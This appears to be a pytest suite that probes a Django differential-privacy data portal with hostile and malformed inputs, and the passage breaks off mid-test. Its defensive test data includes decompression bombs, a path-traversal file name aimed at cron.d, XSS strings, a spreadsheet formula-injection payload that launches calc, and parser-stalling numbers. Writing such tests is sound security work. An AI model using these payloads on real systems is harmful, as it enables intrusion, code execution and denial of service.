"""Hostile and malformed input through the real endpoints (web forms and the JSON API).

Every refused case asserts: a clear message naming the problem (form error on the page, or a 4xx
JSON ``error``), no 500, no job queued (no on-commit callback), the ledger unchanged, no dataset or
release row created, and nothing half-written left in private storage (the upload folder is
compared file by file). A few hostile-but-valid inputs (quoted newlines, path traversal in the
file name, formulas in cells, out-of-bound numbers) must instead be ACCEPTED safely; they are
checked for what "safely" means.
"""

from __future__ import annotations

import gzip
import html
import io
import json
import zipfile

import pandas as pd
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from dpportal.datasets.models import Dataset
from dpportal.ledger import services as ledger
from dpportal.releases.models import Release
from mechanisms.source import read_raw_csv
from tests.data import SMALL_SCHEMA, stored_files
from tests.personas import make_dataset, run_release

HEADER = "age,city,income,note\n"
ROW = "34,Paris,52000.5,ok\n"


# -- state snapshot and the refusal check ------------------------------------------------------------
def snapshot(world, settings) -> tuple:
    return (
        Dataset.objects.count(),
        Release.objects.count(),
        ledger.remaining(world.dataset),
        list(ledger.entries_json(world.dataset).get("entries", [])),
        stored_files(settings.DATA_DIR),
    )


@pytest.fixture
def refused(world, settings, django_capture_on_commit_callbacks):
    """Call ``refused(send, message)``: ``send()`` makes the request; the response must name the
    problem and nothing may change."""

    def check(send, message: str):
        before = snapshot(world, settings)
        with django_capture_on_commit_callbacks(execute=True) as callbacks:
            resp = send()
        assert resp.status_code != 500
        if resp["Content-Type"].startswith("application/json"):
            assert 400 <= resp.status_code < 500, (resp.status_code, resp.content[:300])
            text = resp.json()["error"]
        else:
            assert resp.status_code == 200, resp.status_code  # the form is shown again with its error
            text = html.unescape(resp.content.decode())
        assert message in text, f"{message!r} not in {text[:2000]!r}"
        assert callbacks == [], "a job was queued"
        assert snapshot(world, settings) == before
        return text

    return check


def web_upload(world, content: bytes | str, name: str = "data.csv", content_type: str = "text/csv", **fields):
    data = content.encode() if isinstance(content, str) else content
    body = {
        "name": "t",
        "markers": "?",
        "empty_is_missing": "on",
        "file": SimpleUploadedFile(name, data, content_type=content_type),
        **fields,
    }
    return lambda: world.client(world.owner).post("/datasets/upload/", body)


def api_upload(world, content: bytes | str, name: str = "data.csv", content_type: str = "text/csv"):
    data = content.encode() if isinstance(content, str) else content
    return lambda: world.client(None).post(
        "/api/datasets/", {"file": SimpleUploadedFile(name, data, content_type)}, **world.api(world.owner)
    )


def gzip_bomb() -> bytes:
    return gzip.compress(b"0" * (20 * 1024 * 1024), compresslevel=9)  # 20 MiB of zeros in ~20 KiB


def zip_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("data.csv", HEADER + ROW * 400_000)
    return buf.getvalue()


# -- files ----------------------------------------------------------------------------------------------
UPLOADS = {
    "empty file": (b"", "file is empty"),
    "header only": (HEADER, "header but no data rows"),
    "blank lines only after the header": (HEADER + "\n\n\n", "header but no data rows"),
    "no header (blank first line)": (",,,\n1,2,3,4\n", "no header row"),
    "non-UTF-8 bytes": (b"a,b\n\x81\x8d,\x8f\x90\n", "neither UTF-8 nor Windows-1252"),
    "mixed encodings": (
        "age,city\n1,Z\u00fcrich\n".encode() + "2,M\u00e4lm\u00f6\n".encode("cp1252"),
        "the file mixes encodings",
    ),
    "UTF-16 text": ((HEADER + ROW).encode("utf-16"), "NUL bytes"),
    "NUL bytes in a cell": (b"a,b\n1,\x00\x00\n", "NUL bytes"),
    "ragged rows (short)": (HEADER + ROW + "1,2\n", "has 2 fields, the header has 4"),
    "ragged rows (long)": (HEADER + ROW + "1,2,3,4,5\n", "has 5 fields, the header has 4"),
    "unterminated quote": (HEADER + '1,"Paris,3,4\n5,Lyon,6,7\n', "CSV"),
    "10,000 columns": (
        ",".join(f"c{i}" for i in range(10_000)) + "\n" + ",".join("1" * 10_000) + "\n",
        "10,000 columns; the limit is 200",
    ),
    "a 1 MiB field": (HEADER + "1,Paris,2," + "x" * (1024 * 1024) + "\n", "limit of 1,000 characters"),
    "a long unquoted field": (HEADER + "1,Paris,2," + "y" * 5000 + "\n", "longer than the limit of 1,000"),
    "duplicate column names": ("age,age,city\n1,2,Paris\n", "duplicate column names"),
    "duplicate names after trimming spaces": ("age, age ,city\n1,2,Paris\n", "duplicate column names"),
    "empty column name": ("age,,city\n1,2,Paris\n", "empty name"),
    "a 300-character column name": ("a" * 300 + ",b\n1,2\n", "at most 200 characters"),
    "gzip bomb disguised as CSV": (gzip_bomb(), "gzip archive, not a CSV"),
    "zip bomb disguised as CSV": (zip_bomb(), "zip archive, not a CSV"),
    "binary garbage (PNG)": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "NUL bytes"),
}


@pytest.mark.parametrize("case", sorted(UPLOADS))
def test_web_upload_refuses(world, refused, case):
    content, message = UPLOADS[case]
    refused(web_upload(world, content), message)


@pytest.mark.parametrize(
    "case",
    [
        "empty file",
        "header only",
        "ragged rows (short)",
        "gzip bomb disguised as CSV",
        "10,000 columns",
        "mixed encodings",
    ],
)
def test_api_upload_refuses(world, refused, case):
    content, message = UPLOADS[case]
    refused(api_upload(world, content), message)


def test_stream_limit_refuses_a_file_longer_than_the_cap(world, refused, settings):
    settings.DPPORTAL_MAX_UPLOAD_BYTES = 4096
    refused(web_upload(world, HEADER + ROW * 1000), "larger than the upload limit of 0.0 MB")


def test_row_limit_refuses_a_billion_row_claim_while_streaming(world, refused, settings):
    settings.DPPORTAL_MAX_ROWS = 100  # the same check that stops a billion rows, without sending them
    refused(web_upload(world, HEADER + ROW * 101), "more than 100 data rows")


def test_a_huge_content_length_is_refused_before_reading(world, settings):
    before = snapshot(world, settings)
    resp = world.client(None).generic(
        "POST",
        "/api/datasets/",
        b"x" * 10,
        content_type="multipart/form-data",
        CONTENT_LENGTH=str(10**12),
        **world.api(world.owner),
    )
    assert resp.status_code == 413 and "upload limit" in resp.json()["error"]
    assert snapshot(world, settings) == before


def test_wrong_content_type_json_instead_of_a_file(world, refused):
    refused(
        lambda: world.client(None).post(
            "/api/datasets/", '{"file": "age,city"}', content_type="application/json", **world.api(world.owner)
        ),
        "multipart form field 'file'",
    )


def test_a_too_long_missing_marker_is_named(world, refused):
    refused(web_upload(world, HEADER + ROW, markers="?, " + "m" * 60), "at most 50 characters")


# -- hostile-but-valid uploads are accepted safely --------------------------------------------------------
def test_quoted_newlines_are_one_row(world, settings):
    resp = web_upload(world, HEADER + '34,Paris,1,"two\nlines"\n40,Lyon,2,ok\n')()
    assert resp.status_code == 302
    assert Dataset.objects.latest("pk").n_rows == 2


def test_path_traversal_in_the_file_name_stays_in_private_storage(world, settings):
    resp = web_upload(world, HEADER + ROW, name="../../../../etc/cron.d/evil.csv")()
    assert resp.status_code == 302
    ds = Dataset.objects.latest("pk")
    assert ds.original_filename == "evil.csv"
    assert ds.raw_path().resolve().parent == (settings.UPLOAD_DIR).resolve()
    assert not any(".." in f or "evil" in f for f in stored_files(settings.DATA_DIR))


def test_an_octet_stream_content_type_is_judged_by_content(world, settings):
    assert web_upload(world, HEADER + ROW, content_type="application/octet-stream")().status_code == 302


def test_html_in_names_and_cells_is_escaped(world):
    ds = make_dataset(
        world.owner, text="age,<script>alert(1)</script>\n1,<img src=x onerror=alert(2)>\n", schema=None, budget=None
    )
    Dataset.objects.filter(pk=ds.pk).update(name="<script>alert(3)</script>")
    client = world.client(world.owner)
    for url in (f"/datasets/{ds.pk}/", f"/datasets/{ds.pk}/schema/", "/datasets/"):
        page = client.get(url).content.decode()
        assert "<script>alert" not in page and "<img src=x" not in page, url


def test_formulas_are_neutralised_in_the_spreadsheet_csv_and_kept_exact_in_the_analysis_csv(world):
    schema = json.loads(json.dumps(SMALL_SCHEMA))
    schema["columns"][1]["categories"] = ["=cmd|' /C calc'!A0", "@SUM(1)", "other"]
    text = HEADER + "".join(f"{30 + i},=cmd|' /C calc'!A0,100,x\n{40 + i},@SUM(1),200,y\n" for i in range(10))
    ds = make_dataset(world.owner, text=text, schema=schema)
    release = run_release(ds, world.owner, rows=40)
    client = world.client(world.owner)
    safe = b"".join(client.get(f"/releases/{release.pk}/synthetic-spreadsheet.csv").streaming_content).decode()
    cities = {line.split(",")[1] for line in safe.splitlines()[1:]}
    assert cities and not any(c.lstrip('"')[:1] in "=+-@" for c in cities), cities
    assert all(c.lstrip('"').startswith("'") for c in cities if c != "other"), cities
    body = client.get(f"/releases/{release.pk}/synthetic.csv")
    exact = pd.read_csv(io.StringIO(b"".join(body.streaming_content).decode()), dtype=str)
    assert set(exact["city"]) <= {"=cmd|' /C calc'!A0", "@SUM(1)", "other"}
    assert set(exact["age"].str.lstrip("-").str.isdigit()) == {True}  # numbers untouched in both files


def test_out_of_bound_numbers_are_clipped_to_the_declared_bounds(world):
    text = HEADER + "999,Paris,1e12,x\n-5,Lyon,-1e12,y\n1e300,Nice,2,z\n"
    ds = make_dataset(world.owner, text=text, schema=SMALL_SCHEMA)
    prepared = ds.confirmed_schema().prepare(read_raw_csv(ds.raw_path(), encoding=ds.encoding, sep=ds.delimiter))
    assert prepared["age"].between(18, 90).all() and prepared["income"].between(0, 100000).all()


# -- schema JSON ----------------------------------------------------------------------------------------
def _schema(**changes) -> dict:
    s = json.loads(json.dumps(SMALL_SCHEMA))
    for name, value in changes.items():
        col = next(c for c in s["columns"] if c["name"] == name.split("__")[0])
        col[name.split("__")[1]] = value
    return s


SCHEMAS = {
    "not JSON": ("{columns: [", "not valid JSON"),
    "a JSON list": ("[1, 2]", "must be a JSON object"),
    "no columns": ({"columns": []}, "non-empty 'columns' list"),
    "a column the file lacks": (
        {**SMALL_SCHEMA, "columns": SMALL_SCHEMA["columns"] + [{"name": "ssn", "kind": "excluded"}]},
        "not in the file: ['ssn']",
    ),
    "a file column left undeclared": (
        {**SMALL_SCHEMA, "columns": SMALL_SCHEMA["columns"][:3]},
        "does not describe column(s) ['note']",
    ),
    "unknown kind": (_schema(age__kind="money"), "kind must be one of"),
    "lower above upper": (_schema(age__lower=90, age__upper=18), "age"),
    "infinite bound": ('{"columns": [{"name": "age", "kind": "integer", "lower": 0, "upper": Infinity}]}', "finite"),
    "NaN bound": ('{"columns": [{"name": "age", "kind": "integer", "lower": NaN, "upper": 9}]}', "finite"),
    "string bound": (_schema(age__lower="zero"), "lower must be a number"),
    "zero bins": (_schema(age__bins=0), "bins must be an integer in 1..10000"),
    "a billion bins": (_schema(age__bins=10**9), "bins must be an integer in 1..10000"),
    "empty category list": (_schema(city__categories=[]), "at least one category"),
    "duplicate categories": (_schema(city__categories=["Paris", "Paris", "other"]), "categories must be unique"),
    "categories outside the declared list": (
        _schema(city__categories=["Paris"], city__other=None),
        "outside the declared categories",
    ),
    "text in a numeric column": (
        {
            **SMALL_SCHEMA,
            "columns": [{"name": "city", "kind": "integer", "lower": 0, "upper": 9, "fill": 0}]
            + SMALL_SCHEMA["columns"][:1]
            + SMALL_SCHEMA["columns"][2:],
        },
        "not numbers",
    ),
    "missing values without fill": (_schema(income__fill=None), "no 'fill' declared"),
    "unknown column field": (_schema(age__secret=1), "unknown fields"),
}


@pytest.mark.parametrize("case", sorted(SCHEMAS))
def test_api_schema_refuses(world, refused, case):
    body, message = SCHEMAS[case]
    text = body if isinstance(body, str) else json.dumps({k: v for k, v in body.items()})
    refused(
        lambda: world.client(None).put(
            f"/api/datasets/{world.dataset.pk}/schema/", text, content_type="application/json", **world.api(world.owner)
        ),
        message,
    )


def test_web_schema_import_refuses_a_mismatch_with_a_message(world, settings):
    before = snapshot(world, settings)
    body = json.dumps(SCHEMAS["a column the file lacks"][0])
    resp = world.client(world.owner).post(
        f"/datasets/{world.dataset.pk}/schema/import/", {"schema_text": body}, follow=True
    )
    assert resp.status_code == 200 and "not in the file: [&#x27;ssn&#x27;]" in resp.content.decode()
    assert snapshot(world, settings) == before


@pytest.mark.parametrize("cell", ["nan", "NaN", "1e400", "0x1F"])
def test_non_numbers_in_a_numeric_column_are_named(world, refused, cell):
    ds = make_dataset(world.owner, text=HEADER + f"{cell},Paris,1,x\n40,Lyon,2,y\n", schema=None, budget=None)
    refused(
        lambda: world.client(None).put(
            f"/api/datasets/{ds.pk}/schema/",
            json.dumps(SMALL_SCHEMA),
            content_type="application/json",
            **world.api(world.owner),
        ),
        f"value(s) are not numbers (e.g. '{cell}')",
    )


# -- release requests -------------------------------------------------------------------------------------
RELEASES = {
    "negative epsilon": ({"epsilon": "-1"}, "epsilon"),
    "zero epsilon": ({"epsilon": "0"}, "epsilon"),
    "NaN epsilon": ({"epsilon": "NaN"}, "epsilon"),
    "infinite epsilon": ({"epsilon": "inf"}, "epsilon"),
    "huge epsilon": ({"epsilon": "1e308"}, "epsilon"),
    "epsilon as text": ({"epsilon": "lots"}, "epsilon"),
    "epsilon as a list": ({"epsilon": [1]}, "epsilon"),
    "epsilon as a boolean": ({"epsilon": True}, "epsilon"),
    "delta of one": ({"mechanism": "density-lp", "epsilon": "0.1", "delta": "1"}, "delta"),
    "delta above one": ({"epsilon": "0.1", "delta": "2"}, "delta"),
    "negative delta": ({"epsilon": "0.1", "delta": "-1e-6"}, "delta"),
    "NaN delta": ({"epsilon": "0.1", "delta": "nan"}, "delta"),
    "unknown mechanism": ({"mechanism": "magic"}, "unknown mechanism 'magic'"),
    "mechanism as a list": ({"mechanism": ["baseline"]}, "unknown mechanism"),
    "zero rows": ({"rows": 0}, "rows must be between 1"),
    "negative rows": ({"rows": -5}, "rows must be between 1"),
    "a billion rows": ({"rows": 10**9}, "rows must be between 1 and 1,000,000"),
    "rows as text": ({"rows": "many"}, "rows must be a whole number"),
    "params as a list": ({"params": [1, 2]}, "params"),
    "unknown parameter": ({"params": {"nonsense": 1}}, "nonsense"),
    "over budget": ({"epsilon": "5"}, "budget"),
    "unknown field": ({"priority": "high"}, "unknown field(s) ['priority']"),
}


@pytest.mark.parametrize("case", sorted(RELEASES))
def test_api_release_refuses(world, refused, case):
    changes, message = RELEASES[case]
    body = {"mechanism": "baseline", "epsilon": "0.1", "rows": 5, **changes}
    refused(
        lambda: world.client(None).post(
            f"/api/datasets/{world.dataset.pk}/releases/",
            json.dumps(body),
            content_type="application/json",
            **world.api(world.owner),
        ),
        message,
    )


def test_api_release_refuses_a_body_that_is_not_json(world, refused):
    refused(
        lambda: world.client(None).post(
            f"/api/datasets/{world.dataset.pk}/releases/",
            "epsilon=1",
            content_type="application/x-www-form-urlencoded",
            **world.api(world.owner),
        ),
        "not valid JSON",
    )


@pytest.mark.parametrize("epsilon, message", [("-1", "epsilon"), ("nan", "epsilon"), ("1e308", "epsilon")])
def test_web_release_form_refuses_bad_epsilon(world, refused, epsilon, message):
    refused(
        lambda: world.client(world.owner).post(
            f"/datasets/{world.dataset.pk}/releases/new/",
            {"mechanism": "baseline", "epsilon": epsilon, "delta": "0", "rows": "5"},
        ),
        message,
    )


def test_web_release_form_refuses_rows_out_of_range(world, refused):
    refused(
        lambda: world.client(world.owner).post(
            f"/datasets/{world.dataset.pk}/releases/new/",
            {"mechanism": "baseline", "epsilon": "0.1", "delta": "0", "rows": "1000000000"},
        ),
        "rows",
    )


@pytest.mark.parametrize(
    "body, message",
    [
        ({"epsilon": "-2"}, "epsilon"),
        ({"epsilon": "nan"}, "epsilon"),
        ({"epsilon": "1", "delta": "1.5"}, "delta"),
        ({}, "epsilon"),
    ],
)
def test_api_budget_refuses(world, refused, body, message):
    refused(
        lambda: world.client(None).put(
            f"/api/datasets/{world.dataset.pk}/budget/",
            json.dumps(body),
            content_type="application/json",
            **world.api(world.owner),
        ),
        message,
    )


def test_free_draws_refuse_bad_row_counts(world, refused):
    refused(
        lambda: world.client(None).post(
            f"/api/releases/{world.release.pk}/draws/",
            '{"rows": -1}',
            content_type="application/json",
            **world.api(world.owner),
        ),
        "rows must be between 1",
    )


# ====================================================================================================
# One number, one body, one byte must not stall, crash or charge (hostile-input suite).
# Every case: no 500, answered within FAST seconds (the bounds are checked before any arithmetic),
# nothing charged, nothing queued. ``timed`` wraps ``refused`` with the clock.
# ====================================================================================================
# seconds: the slowest refusal allowed. A naive parse of "1e30000000" holds the GIL for about two minutes,
# so 5 s still catches it while a machine loaded with other work (a request takes 0.05 s idle, up to 2 s at
# load 10 on 2 cores) passes.
FAST = 5.0


@pytest.fixture
def timed(refused):
    def check(send, message: str):
        import time

        t0 = time.perf_counter()
        text = refused(send, message)
        elapsed = time.perf_counter() - t0
        assert elapsed < FAST, f"answered in {elapsed:.2f} s"
        return text

    return check


def api_post(world, url: str, body: str, method: str = "post"):
    return lambda: getattr(world.client(None), method)(
        url, body, content_type="application/json", **world.api(world.owner)
    )


BIG_INT = "1" + "0" * 5000  # over Python's 4,300-digit int-string limit
MID_INT = "1" + "0" * 400  # a valid int whose float() overflows
DEEP_LIST = "[" * 50_000 + "]" * 50_000
DEEP_OBJECT = '{"a":' * 50_000 + "1" + "}" * 50_000

# (raw JSON text of the release request, message)
HOSTILE_RELEASE_BODIES = {
    "epsilon 1e30000000 (30 million digits if parsed exactly)": (
        '{"mechanism": "baseline", "epsilon": "1e30000000"}',
        "between 1e-30 and 1e30",
    ),
    "epsilon 1e-400 (becomes float 0.0)": ('{"mechanism": "baseline", "epsilon": "1e-400"}', "between 1e-30"),
    "epsilon 1e400": ('{"mechanism": "baseline", "epsilon": "1e400"}', "between 1e-30"),
    "epsilon -1e30000000": ('{"mechanism": "baseline", "epsilon": "-1e30000000"}', "between 1e-30"),
    "epsilon 1e-31": ('{"mechanism": "baseline", "epsilon": "1e-31"}', "between 1e-30"),
    "epsilon as a JSON float 1e308": ('{"mechanism": "baseline", "epsilon": 1e308}', "epsilon"),
    "epsilon as a JSON float 5e-324": ('{"mechanism": "baseline", "epsilon": 5e-324}', "epsilon"),
    "epsilon as a 401-digit JSON integer": (f'{{"mechanism": "baseline", "epsilon": {MID_INT}}}', "limit is 100"),
    "epsilon as a 5001-digit JSON integer": (f'{{"mechanism": "baseline", "epsilon": {BIG_INT}}}', "limit is 100"),
    "epsilon as a 5001-digit string": (f'{{"mechanism": "baseline", "epsilon": "{BIG_INT}"}}', "at most 40 characters"),
    "epsilon as a 41-character string": (
        '{"mechanism": "baseline", "epsilon": "0.1000000000000000000000000000000000000001"}',
        "at most 40 characters",
    ),
    "epsilon as a huge fraction": ('{"mechanism": "baseline", "epsilon": "1/' + "9" * 38 + '"}', "between 1e-30"),
    "epsilon as 1/0": ('{"mechanism": "baseline", "epsilon": "1/0"}', "epsilon"),
    "epsilon as hex": ('{"mechanism": "baseline", "epsilon": "0x10"}', "epsilon"),
    "epsilon as an object": ('{"mechanism": "baseline", "epsilon": {"a": 1}}', "epsilon"),
    "epsilon as null": ('{"mechanism": "baseline", "epsilon": null}', "epsilon"),
    "epsilon with a NUL": ('{"mechanism": "baseline", "epsilon": "0.1\\u0000"}', "epsilon"),
    "epsilon 1e-400 on kdtree (was ZeroDivisionError)": (
        '{"mechanism": "kdtree-grid", "epsilon": "1e-400"}',
        "between 1e-30",
    ),
    "epsilon 1e-400 on privhp": ('{"mechanism": "privhp", "epsilon": "1e-400"}', "between 1e-30"),
    "epsilon 1e-30 on kdtree-grid (int64 overflow in fit)": (
        '{"mechanism": "kdtree-grid", "epsilon": "1e-30"}',
        "too small for kdtree-grid",
    ),
    "epsilon 1e-30 on kdtree-adaptive": (
        '{"mechanism": "kdtree-adaptive", "epsilon": "1e-30"}',
        "too small for kdtree-adaptive",
    ),
    "delta 1e-400": ('{"mechanism": "density-lp", "epsilon": "0.1", "delta": "1e-400"}', "delta"),
    "delta 1e30000000": ('{"mechanism": "density-lp", "epsilon": "0.1", "delta": "1e30000000"}', "delta"),
    "float parameter given a 401-digit integer": (
        f'{{"mechanism": "density-lp", "epsilon": "0.1", "params": {{"split": {MID_INT}}}}}',
        "limit is 100",
    ),
    "float parameter given 1e300": (
        '{"mechanism": "density-lp", "epsilon": "0.1", "params": {"split": 1e300}}',
        "split",
    ),
    "float parameter given 1e-400 as text": (
        '{"mechanism": "kdtree-grid", "epsilon": "0.1", "params": {"width": "1e-400"}}',
        "width",
    ),
    "float parameter given 1e400 as text": (
        '{"mechanism": "kdtree-grid", "epsilon": "0.1", "params": {"threshold": "1e400"}}',
        "threshold",
    ),
    "float parameter given a megabyte of text": (
        '{"mechanism": "kdtree-grid", "epsilon": "0.1", "params": {"width": "' + "1" * 1_000_000 + '"}}',
        "width",
    ),
    "int parameter given 10**20": (
        '{"mechanism": "privhp", "epsilon": "0.1", "params": {"depth": 100000000000000000000}}',
        "depth",
    ),
    "int parameter given a 90-digit integer": (
        '{"mechanism": "privhp", "epsilon": "0.1", "params": {"k": 1' + "0" * 90 + "}}",
        "'k'",
    ),
    "int parameter given 1e400": (
        '{"mechanism": "kdtree-adaptive", "epsilon": "0.1", "params": {"levels_adaptive": 1e400}}',
        "levels_adaptive",
    ),
    "bool parameter given an object": (
        '{"mechanism": "density-lp", "epsilon": "0.1", "params": {"tie_break": {}}}',
        "tie_break",
    ),
    "str parameter given a list": (
        '{"mechanism": "dpmerf", "epsilon": "0.1", "delta": "1e-6", "params": {"hidden": [1]}}',
        "hidden",
    ),
    "rows as a 5001-digit integer": (
        f'{{"mechanism": "baseline", "epsilon": "0.1", "rows": {BIG_INT}}}',
        "limit is 100",
    ),
    "rows as 1e400": ('{"mechanism": "baseline", "epsilon": "0.1", "rows": 1e400}', "rows"),
    "rows as a 5001-digit string": (f'{{"mechanism": "baseline", "epsilon": "0.1", "rows": "{BIG_INT}"}}', "rows"),
    "JSON nested 50,000 levels (list)": (DEEP_LIST, "deeper than the limit"),
    "JSON nested 50,000 levels (object)": (DEEP_OBJECT, "deeper than the limit"),
    "JSON nested 33 levels in params": (
        '{"mechanism": "baseline", "epsilon": "0.1", "params": ' + "[" * 33 + "]" * 33 + "}",
        "deeper than the limit",
    ),
    "NaN literal": ('{"mechanism": "baseline", "epsilon": NaN}', "epsilon"),
    "Infinity literal": ('{"mechanism": "baseline", "epsilon": -Infinity}', "epsilon"),
    "invalid UTF-8": ('{"mechanism": "baseline", "epsilon": "\udcff"}', "JSON"),
    "a JSON string, not an object": ('"baseline"', "JSON object"),
    "an empty body": ("", "JSON object"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_RELEASE_BODIES))
def test_api_release_refuses_hostile_json_fast(world, timed, case):
    body, message = HOSTILE_RELEASE_BODIES[case]
    if body.startswith('{"mechanism"'):  # past the utility gate ("predicted to fail"), to the check under test
        body = '{"confirm_would_fail": true, ' + body[1:]
    data = body.encode("utf-8", "surrogateescape") if "\udcff" in body else body
    timed(api_post(world, f"/api/datasets/{world.dataset.pk}/releases/", data), message)


def test_api_refuses_a_body_over_the_size_limit_with_413(world, timed, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1024
    timed(
        api_post(
            world,
            f"/api/datasets/{world.dataset.pk}/releases/",
            '{"mechanism": "baseline", "epsilon": "0.1", "x": "' + "a" * 2000 + '"}',
        ),
        "larger than the limit",
    )


HOSTILE_BUDGETS = {
    "cap 1e30000000": ('{"epsilon": "1e30000000"}', "between 1e-30"),
    "cap -1e30000000": ('{"epsilon": "-1e30000000"}', "between 1e-30"),
    "cap 1e-400": ('{"epsilon": "1e-400"}', "between 1e-30"),
    "cap as a 5001-digit integer": (f'{{"epsilon": {BIG_INT}}}', "limit is 100"),
    "cap as a 401-digit integer": (f'{{"epsilon": {MID_INT}}}', "limit is 100"),
    "cap as 1e308": ('{"epsilon": 1e308}', "between 1e-30"),
    "delta cap 1e30000000": ('{"epsilon": "1", "delta": "1e30000000"}', "between 1e-30"),
    "delta cap 1e-400": ('{"epsilon": "1", "delta": "1e-400"}', "between 1e-30"),
    "cap as a list": ('{"epsilon": [1]}', "epsilon"),
    "deeply nested": (DEEP_OBJECT, "deeper than the limit"),
    "cap as a fraction of huge parts": ('{"epsilon": "1' + "0" * 37 + '/1"}', "between 1e-30"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_BUDGETS))
def test_api_budget_refuses_hostile_amounts_fast(world, timed, case):
    body, message = HOSTILE_BUDGETS[case]
    timed(api_post(world, f"/api/datasets/{world.dataset.pk}/budget/", body, method="put"), message)


def _schema_text(**changes) -> str:
    return json.dumps(_schema(**changes))


HOSTILE_SCHEMAS = {
    "upper bound 1e300": (_schema_text(income__upper=1e300), "within +-1e+15"),
    "lower bound -1e300": (_schema_text(income__lower=-1e300), "within +-1e+15"),
    "upper bound a 90-digit integer": (_schema_text(age__upper=10**90), "within +-1e+15"),
    "upper bound a 5001-digit integer": (
        _schema_text(age__upper=1).replace('"upper": 1,', f'"upper": {BIG_INT},'),
        "limit is 100",
    ),
    "bins a 5001-digit integer": (
        _schema_text(age__bins=1).replace('"bins": 1}', f'"bins": {BIG_INT}}}'),
        "limit is 100",
    ),
    "bins 1e400": (_schema_text(age__bins=1).replace('"bins": 1}', '"bins": 1e400}'), "bins"),
    "fill 1e300": (_schema_text(income__fill=1e300), "fill"),
    "NUL in a category": (_schema_text(city__categories=["Par\x00is", "Lyon", "Nice", "other"]), "control character"),
    "escape character in a category": (_schema_text(city__categories=["\x1b[31mParis", "other"]), "control character"),
    "NUL in a missing-value marker": (
        json.dumps({**SMALL_SCHEMA, "missing_markers": ["", "\x00"]}),
        "control character",
    ),
    "NUL in 'other'": (_schema_text(city__other="oth\x00er"), "other"),
    "nested 50,000 levels": (DEEP_LIST, "deeper than the limit"),
    "categories nested 40 levels": (
        _schema_text(city__categories=[]).replace('"categories": []', '"categories": ' + "[" * 40 + "]" * 40),
        "deeper than the limit",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_SCHEMAS))
def test_api_schema_refuses_hostile_values_fast(world, timed, case):
    body, message = HOSTILE_SCHEMAS[case]
    timed(api_post(world, f"/api/datasets/{world.dataset.pk}/schema/", body, method="put"), message)


@pytest.mark.parametrize("case", ["upper bound 1e300", "NUL in a category", "nested 50,000 levels"])
def test_web_schema_import_refuses_hostile_values(world, settings, case):
    before = snapshot(world, settings)
    resp = world.client(world.owner).post(
        f"/datasets/{world.dataset.pk}/schema/import/",
        {"schema_text": HOSTILE_SCHEMAS[case][0].replace("\x00", "\\u0000")},
        follow=True,
    )
    assert resp.status_code == 200
    assert snapshot(world, settings) == before


HOSTILE_TEXT = {
    "NUL in the dataset name": ({"name": "peo\x00ple"}, "control character"),
    "escape in the dataset name": ({"name": "\x1b[2Jpeople"}, "control character"),
    "NUL in a missing-value marker": ({"missing_markers": "?, N\x00A"}, "control character"),
    "bell in a missing-value marker": ({"missing_markers": "?, \x07"}, "control character"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_TEXT))
def test_api_upload_refuses_control_characters(world, timed, case):
    fields, message = HOSTILE_TEXT[case]
    timed(
        lambda: world.client(None).post(
            "/api/datasets/",
            {"file": SimpleUploadedFile("d.csv", (HEADER + ROW).encode(), "text/csv"), **fields},
            **world.api(world.owner),
        ),
        message,
    )


@pytest.mark.parametrize("case", ["escape in the dataset name", "bell in a missing-value marker"])
def test_web_upload_refuses_control_characters(world, timed, case):
    fields, message = HOSTILE_TEXT[case]
    body = {
        "name": fields.get("name", "t"),
        "markers": fields.get("missing_markers", "?"),
        "file": SimpleUploadedFile("d.csv", (HEADER + ROW).encode(), content_type="text/csv"),
    }
    timed(lambda: world.client(world.owner).post("/datasets/upload/", body), message)


@pytest.mark.parametrize("markers", ["?, \x00", "?, \x1b"])
def test_web_schema_page_refuses_control_characters_in_markers(world, settings, markers):
    before = snapshot(world, settings)
    resp = world.client(world.owner).post(
        f"/datasets/{world.dataset.pk}/schema/", {"public_ack": "on", "markers": markers}
    )
    assert resp.status_code == 200 and "control character" in html.unescape(resp.content.decode())
    assert snapshot(world, settings) == before


@pytest.mark.parametrize(
    "field, value",
    [
        ("lower", "9" * 5000),
        ("upper", "1e400"),
        ("bins", "9" * 5000),
        ("bins", "\u00b2"),
        ("fill", "1e300"),
        ("upper", "1" * 41),
    ],
)
def test_web_schema_page_refuses_hostile_numbers(world, settings, field, value):
    import time

    before = snapshot(world, settings)
    post = {
        "public_ack": "on",
        "markers": "?",
        "col-0-kind": "integer",
        "col-0-lower": "18",
        "col-0-upper": "90",
        "col-0-bins": "8",
        "col-1-kind": "excluded",
        "col-2-kind": "excluded",
        "col-3-kind": "excluded",
        f"col-0-{field}": value,
    }
    t0 = time.perf_counter()
    resp = world.client(world.owner).post(f"/datasets/{world.dataset.pk}/schema/", post)
    assert resp.status_code == 200 and time.perf_counter() - t0 < FAST
    assert "age" in html.unescape(resp.content.decode())
    assert snapshot(world, settings) == before


HOSTILE_FORM_EPSILONS = {
    "1e30000000": "between 1e-30 and 1e30",
    "1e-400": "between 1e-30 and 1e30",
    "1e400": "between 1e-30 and 1e30",
    "-1e30000000": "between 1e-30 and 1e30",
    "9" * 40: "between 1e-30 and 1e30",
    "1/0": "expected a number",
    "\x00": "Null characters",
    "1e-31": "between 1e-30 and 1e30",
}


@pytest.mark.parametrize("epsilon", sorted(HOSTILE_FORM_EPSILONS), ids=repr)
def test_web_release_form_refuses_hostile_epsilon_fast(world, timed, epsilon):
    # param_noise_type: the form's other required field (baseline's Gaussian mode), so the refusal
    # comes from the amount itself
    timed(
        lambda: world.client(world.owner).post(
            f"/datasets/{world.dataset.pk}/releases/new/",
            {"mechanism": "baseline", "epsilon": epsilon, "delta": "0", "rows": "5", "param_noise_type": "laplace"},
        ),
        HOSTILE_FORM_EPSILONS[epsilon],
    )


@pytest.mark.parametrize(
    "param, value",
    [("param_width", "1e-400"), ("param_threshold", "1e400"), ("param_beta", "9" * 39), ("param_width", "-1e30000000")],
)
def test_web_release_form_refuses_hostile_parameters_fast(world, timed, param, value):
    timed(
        lambda: world.client(world.owner).post(
            f"/datasets/{world.dataset.pk}/releases/new/",
            {
